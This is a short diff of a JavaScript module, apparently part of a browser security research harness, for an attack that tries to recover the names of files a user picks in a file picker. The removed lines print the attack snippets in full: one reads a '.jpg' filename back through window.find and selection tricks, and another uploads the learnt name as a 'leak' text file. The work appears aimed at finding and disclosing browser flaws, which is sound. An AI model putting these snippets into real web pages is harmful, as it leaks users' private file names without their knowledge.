@@ -9,16 +9,11 @@
 // draws (attack 48's findsel). A name learnt goes up as a text note
 // "leak-….txt". Served by server.mjs at /attack52-…; tests: attack52.test.mjs.
 
-import { attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
+import { findSelection, leakNote, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
 
-/** Upload what was learnt (a name, or a bit) as a text note, once. */
-export const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once52) { window.once52 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
+export const leak = leakNote;
 
-/** attack 48's findsel on whatever is connected now: window.find('.jpg'), the selection stretched over its line, read back. */
-export const findsel = (why) => `const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
-        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
-        const got = String(sel); note('${why} ' + JSON.stringify(got));
-        if (/jpg/i.test(got)) leak(got, '${why}');`;
+export const findsel = (why) => findSelection(why);
 
 /**
  * The label (i and the deep span) is put CONNECTED in a span p inside a contenteditable div ce (a wrapped insertion:
